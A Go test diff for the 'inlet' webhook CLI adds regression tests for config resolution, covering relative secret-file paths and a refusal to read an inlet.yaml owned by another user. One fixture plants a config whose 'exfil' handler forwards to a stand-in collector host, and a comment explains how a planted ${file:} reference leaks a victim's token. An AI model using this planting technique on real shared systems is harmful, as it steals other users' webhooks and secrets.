@@ -269,3 +269,302 @@ func TestProjectConfigStopsAtTheProjectRoot(t *testing.T) {
 		t.Errorf("a service in a repository of its own without inlet.yaml: %v; want the file missing", err)
 	}
 }
+
+// TestSubdirectoryResolvesTheProjectsSecretFiles (review helper-242, fixed).
+// Defect: since 5084cbf a command run below a project's directory without
+// --config reads the project's inlet.yaml (cmd/inlet/common.go:
+// projectConfig, loadServiceConfig), "so a command run in a subdirectory
+// uses the same file as the inlet dev whose .inlet/ it finds"
+// (docs/configuration.md, "Which file"). But the file's relative
+// ${file:PATH} references are still read against the working directory
+// (internal/config/config.go: expandValue, os.ReadFile(path)), not the
+// file's directory: a project whose inlet.yaml reads its secrets as
+// ${file:secrets/stripe_whsec} (works from the project's directory, where
+// inlet dev runs) cannot run any command from a subdirectory: inlet send,
+// events, dlq, config check all fail with "secret file
+// secrets/stripe_whsec: no such file or directory", and where the
+// subdirectory happens to hold a file of that relative name, the command
+// silently uses that one instead (another secret: the 401s and false
+// tamper alarm of helper-231 again). The fix made the file the same, not
+// what it means.
+// Setup: TOP/inlet.yaml with a stripe source whose secret is
+// ${file:secrets/stripe_whsec}, TOP/secrets/stripe_whsec; the config loaded
+// (as send/events/dlq do, and inlet config check) from TOP and from TOP/a/b.
+// Expected: from TOP/a/b the same configuration as from TOP (the secret of
+// TOP/secrets/stripe_whsec), config check "ok".
+// Observed: from TOP "ok"; from TOP/a/b loadConfig fails: "TOP/inlet.yaml:4:
+// sources[0].secrets[0]: secret file secrets/stripe_whsec: no such file or
+// directory", and inlet config check exits with the same problem.
+// Fixed (helper-247): config.Load resolves a relative ${file:} path against
+// the absolute directory of the file it reads (inletyaml.LoadFor, so every
+// command and inlet config check), whatever the working directory; a
+// missing file's error names the path it was resolved to; the embedded
+// defaults (no file) resolve against the working directory as before.
+func TestSubdirectoryResolvesTheProjectsSecretFiles(t *testing.T) {
+	clearDevEnv(t)
+	top, err := filepath.EvalSymlinks(t.TempDir())
+	if err != nil {
+		t.Fatal(err)
+	}
+	sub := filepath.Join(top, "a", "b")
+	for _, d := range []string{sub, filepath.Join(top, "secrets")} {
+		if err := os.MkdirAll(d, 0o755); err != nil {
+			t.Fatal(err)
+		}
+	}
+	const secret = "whsec_review242_the_projects_own_secret"
+	if err := os.WriteFile(filepath.Join(top, "secrets", "stripe_whsec"), []byte(secret+"\n"), 0o600); err != nil {
+		t.Fatal(err)
+	}
+	project := filepath.Join(top, "inlet.yaml")
+	if err := os.WriteFile(project, []byte(`sources:
+  - name: stripe
+    type: stripe
+    secrets: ["${file:secrets/stripe_whsec}"]
+consumer:
+  handlers:
+    - name: log
+      type: log
+`), 0o600); err != nil {
+		t.Fatal(err)
+	}
+
+	// Control: from the project's directory, where inlet dev runs.
+	t.Chdir(top)
+	cfg, from, err := loadConfig(defaultConfigPath, inletyaml.Dev)
+	if err != nil {
+		t.Fatalf("control: the project's config in its own directory: %v", err)
+	}
+	if src, ok := cfg.Source("stripe"); !ok || len(src.Secrets) != 1 || src.Secrets[0] != secret {
+		t.Fatalf("control: config from %s has stripe %+v; want the secret of secrets/stripe_whsec", from, src)
+	}
+	if out, err := runInlet(t, "config", "check"); err != nil {
+		t.Fatalf("control: inlet config check in the project's directory: %v\n%s", err, out)
+	}
+
+	// A directory below it: the same file, so the same secret.
+	t.Chdir(sub)
+	cfg, from, err = loadConfig(defaultConfigPath, inletyaml.Dev)
+	if err != nil {
+		t.Errorf("below the project (%s) the project's own inlet.yaml, which loads in %s, does not load: %v", sub, top, err)
+	} else if src, ok := cfg.Source("stripe"); from != project || !ok || len(src.Secrets) != 1 || src.Secrets[0] != secret {
+		t.Errorf("below the project: config from %s, stripe %+v; want %s with the secret of %s/secrets/stripe_whsec", from, src, project, top)
+	}
+	out, err := runInlet(t, "config", "check")
+	if err != nil || !strings.HasSuffix(out, ": ok\n") {
+		t.Errorf("inlet config check below the project: %v\n%s\nwant %s: ok, as in %s", err, out, project, top)
+	}
+}
+
+// TestParentConfigOfAnotherUserIsNotRead (review helper-242, fixed).
+// Defect: projectConfig (cmd/inlet/common.go) walks up from the working
+// directory and reads the first inlet.yaml it meets, whoever owns it and
+// whatever the directory: "as git reads the config of the repository it
+// runs in" (docs/configuration.md, "Which file") — but git refuses a
+// repository owned by another user (safe.directory, CVE-2022-24765) for
+// exactly this reason. On a shared machine any user can put an inlet.yaml
+// into /tmp (a sticky, world-writable directory); another user who runs
+// `inlet dev` (or send, events, dlq, replay, config check) in a fresh
+// /tmp/work directory, expecting the embedded defaults (no inlet.yaml, no
+// .git there), gets the planted configuration instead: its database_url,
+// its sources and secrets, its handlers (an http-forward to the planter's
+// URL receives every webhook), its tracing endpoint, and ${file:...} of
+// the victim's own files expanded into those values (a URL with
+// ${file:/home/victim/.config/token} sends that token out with every
+// delivery). Before 5084cbf no parent's inlet.yaml was ever read.
+// Setup: TOP (mode 1777, as /tmp) holds inlet.yaml owned by uid 65534
+// (another user; the test runs as root, and skips otherwise), with a
+// source "planted" and an http-forward handler to an outside URL;
+// loadConfig (what inlet dev, send and the operator commands call) run in
+// TOP/work, a fresh directory of the current user.
+// Expected: the planted file is not read: the embedded defaults (or a
+// refusal naming the file and its owner, as git does).
+// Observed: the configuration comes "from" TOP/inlet.yaml, with source
+// "planted" and the handler forwarding to https://collector.invalid/.
+// Fixed (helper-247): projectConfig and findDevFile refuse an inlet.yaml,
+// or an .inlet/ (or its file), found on the walk up and owned by a uid
+// other than the current user's, as git refuses a repository of another
+// owner: the error names the file, its owner and the way out (--config
+// PATH to use it deliberately, --database-url/DATABASE_URL or --url
+// instead of the .inlet/ file, or a directory of one's own). An explicit
+// --config is read whoever owns it. The walk stops where it did.
+func TestParentConfigOfAnotherUserIsNotRead(t *testing.T) {
+	if os.Getuid() != 0 {
+		t.Skip("needs root to make a file owned by another user")
+	}
+	clearDevEnv(t)
+	top, err := filepath.EvalSymlinks(t.TempDir())
+	if err != nil {
+		t.Fatal(err)
+	}
+	if err := os.Chmod(top, 0o1777); err != nil { // as /tmp
+		t.Fatal(err)
+	}
+	planted := filepath.Join(top, "inlet.yaml")
+	if err := os.WriteFile(planted, []byte(`sources:
+  - name: planted
+    type: stripe
+    secrets: ["whsec_review242_planted_by_another_user"]
+consumer:
+  handlers:
+    - name: exfil
+      type: http-forward
+      url: "https://collector.invalid/hooks"
+      secret: "review242-planted-forward-secret"
+`), 0o644); err != nil {
+		t.Fatal(err)
+	}
+	const nobody = 65534
+	if err := os.Chown(planted, nobody, nobody); err != nil {
+		t.Fatal(err)
+	}
+	work := filepath.Join(top, "work")
+	if err := os.Mkdir(work, 0o700); err != nil { // the current user's own fresh directory
+		t.Fatal(err)
+	}
+	t.Chdir(work)
+	cfg, from, err := loadConfig(defaultConfigPath, inletyaml.Dev)
+	if err != nil {
+		// Refused, naming the file: as good as git's refusal.
+		if !strings.Contains(err.Error(), planted) {
+			t.Errorf("refused with %v; want the error to name %s", err, planted)
+		}
+		return
+	}
+	_, hasPlanted := cfg.Source("planted")
+	if from == planted || hasPlanted {
+		var forwards []string
+		for _, h := range cfg.Consumer.Handlers {
+			if h.URL != "" {
+				forwards = append(forwards, h.Name+" -> "+h.URL)
+			}
+		}
+		t.Errorf("a command in %s (no inlet.yaml, no .git) read %s, owned by uid %d (another user) in a world-writable directory: "+
+			"config from %q, source planted %v, forwards %v; want the embedded defaults (or a refusal), as git refuses a repository of another owner",
+			work, planted, nobody, from, hasPlanted, forwards)
+	}
+}
+
+// The refusal of another user's files found on the walk up (review
+// helper-242, fixed by helper-247): the project's inlet.yaml refused names
+// the file, its owner and --config, and --config reads it deliberately;
+// another user's .inlet/ is not used for the database nor for inlet send's
+// ingress, each refusal with its own way out, which then works.
+func TestAnotherUsersProjectFilesAreRefusedWithAWayOut(t *testing.T) {
+	if os.Getuid() != 0 {
+		t.Skip("needs root to make a file owned by another user")
+	}
+	clearDevEnv(t)
+	top, err := filepath.EvalSymlinks(t.TempDir())
+	if err != nil {
+		t.Fatal(err)
+	}
+	if err := os.Chmod(top, 0o1777); err != nil {
+		t.Fatal(err)
+	}
+	const nobody = 65534
+	planted := filepath.Join(top, "inlet.yaml")
+	if err := os.WriteFile(planted, []byte("sources:\n  - name: planted\n    type: stripe\n    secrets: [whsec_planted_by_another_user]\n"), 0o644); err != nil {
+		t.Fatal(err)
+	}
+	if err := os.Chown(planted, nobody, nobody); err != nil {
+		t.Fatal(err)
+	}
+	work := filepath.Join(top, "work")
+	if err := os.Mkdir(work, 0o700); err != nil {
+		t.Fatal(err)
+	}
+	t.Chdir(work)
+	for _, service := range []config.Service{config.AllSections, config.IngressService} {
+		_, _, err := loadServiceConfig(defaultConfigPath, service, inletyaml.Dev)
+		if err == nil || !strings.Contains(err.Error(), planted) || !strings.Contains(err.Error(), "uid 65534") ||
+			!strings.Contains(err.Error(), "--config "+planted) {
+			t.Errorf("service %d in %s: %v; want a refusal naming %s, its owner uid %d and --config", service, work, err, planted, nobody)
+		}
+	}
+	if out, err := runInlet(t, "config", "check"); err == nil || !strings.Contains(err.Error(), planted) {
+		t.Errorf("inlet config check in %s: %v\n%s; want the refusal of %s", work, err, out, planted)
+	}
+	// Deliberately: an explicit --config is read whoever owns it.
+	if cfg, from, err := loadConfig(planted, inletyaml.Dev); err != nil || from != planted {
+		t.Errorf("--config %s: config from %q, %v; want it read", planted, from, err)
+	} else if _, ok := cfg.Source("planted"); !ok {
+		t.Errorf("--config %s: no source planted", planted)
+	}
+
+	// Another user's .inlet/ in a project of the current user's own: its
+	// database_url and ingress_url are not used.
+	proj := filepath.Join(top, "proj")
+	dev := filepath.Join(proj, devDataDir)
+	if err := os.MkdirAll(filepath.Join(proj, "sub"), 0o755); err != nil {
+		t.Fatal(err)
+	}
+	if err := os.WriteFile(filepath.Join(proj, "inlet.yaml"), []byte("sources:\n  - name: own\n    type: stripe\n    secrets: [whsec_own_project_secret]\n"), 0o600); err != nil {
+		t.Fatal(err)
+	}
+	if err := os.Mkdir(dev, 0o755); err != nil {
+		t.Fatal(err)
+	}
+	for name, content := range map[string]string{"database_url": "postgres://planted.invalid/db\n", "ingress_url": "http://127.0.0.1:1/\n"} {
+		if err := os.WriteFile(filepath.Join(dev, name), []byte(content), 0o644); err != nil {
+			t.Fatal(err)
+		}
+	}
+	if err := os.Chown(dev, nobody, nobody); err != nil {
+		t.Fatal(err)
+	}
+	t.Chdir(filepath.Join(proj, "sub"))
+	cfg, from, err := loadConfig(defaultConfigPath, inletyaml.Dev)
+	if err != nil || from != filepath.Join(proj, "inlet.yaml") {
+		t.Fatalf("the user's own project: config from %q, %v", from, err)
+	}
+	if u, err := databaseURL("", ""); err == nil || u != "" || !strings.Contains(err.Error(), dev) || !strings.Contains(err.Error(), "DATABASE_URL") {
+		t.Errorf("database of another user's %s: %q, %v; want a refusal naming it and DATABASE_URL", dev, u, err)
+	}
+	if u, err := databaseURL("", "postgres://own.invalid/db"); err != nil || u != "postgres://own.invalid/db" {
+		t.Errorf("with a database configured: %q, %v; want it, the .inlet/ not looked at", u, err)
+	}
+	if u, _, err := ingressURL(cfg, from); err == nil || u != "" || !strings.Contains(err.Error(), dev) || !strings.Contains(err.Error(), "--url") {
+		t.Errorf("ingress of another user's %s: %q, %v; want a refusal naming it and --url", dev, u, err)
+	}
+	if _, err := devStateDir("pass --state PATH"); err == nil || !strings.Contains(err.Error(), "--state") {
+		t.Errorf("backfill's state beside another user's %s: %v; want a refusal naming --state", dev, err)
+	}
+	// The .inlet/ is the user's, one file in it is not: refused too.
+	if err := os.Chown(dev, 0, 0); err != nil {
+		t.Fatal(err)
+	}
+	if err := os.Chown(filepath.Join(dev, "database_url"), nobody, nobody); err != nil {
+		t.Fatal(err)
+	}
+	if _, err := databaseURL("", ""); err == nil || !strings.Contains(err.Error(), filepath.Join(dev, "database_url")) {
+		t.Errorf("another user's %s/database_url: %v; want a refusal naming it", dev, err)
+	}
+	if u, _, err := ingressURL(cfg, from); err != nil || u != "http://127.0.0.1:1/" {
+		t.Errorf("the user's own %s/ingress_url: %q, %v; want it read", dev, u, err)
+	}
+}
+
+// inlet config check on a file whose relative ${file:} is missing names the
+// path it was resolved to, in the file's directory, not the working one
+// (review helper-242, fixed by helper-247).
+func TestConfigCheckNamesTheResolvedSecretFile(t *testing.T) {
+	clearDevEnv(t)
+	top, err := filepath.EvalSymlinks(t.TempDir())
+	if err != nil {
+		t.Fatal(err)
+	}
+	etc := filepath.Join(top, "etc")
+	if err := os.Mkdir(etc, 0o755); err != nil {
+		t.Fatal(err)
+	}
+	if err := os.WriteFile(filepath.Join(etc, "inlet.yaml"), []byte("sources:\n  - name: stripe\n    type: stripe\n    secrets: [\"${file:secrets/stripe}\"]\n"), 0o600); err != nil {
+		t.Fatal(err)
+	}
+	t.Chdir(top)
+	out, err := runInlet(t, "config", "check", "--config", "etc/inlet.yaml")
+	want := "secret file secrets/stripe (" + filepath.Join(etc, "secrets", "stripe") + "): no such file or directory"
+	if err == nil || !strings.Contains(out, want) {
+		t.Errorf("inlet config check --config etc/inlet.yaml from %s: %v\n%s\nwant the problem %q", top, err, out, want)
+	}
+}
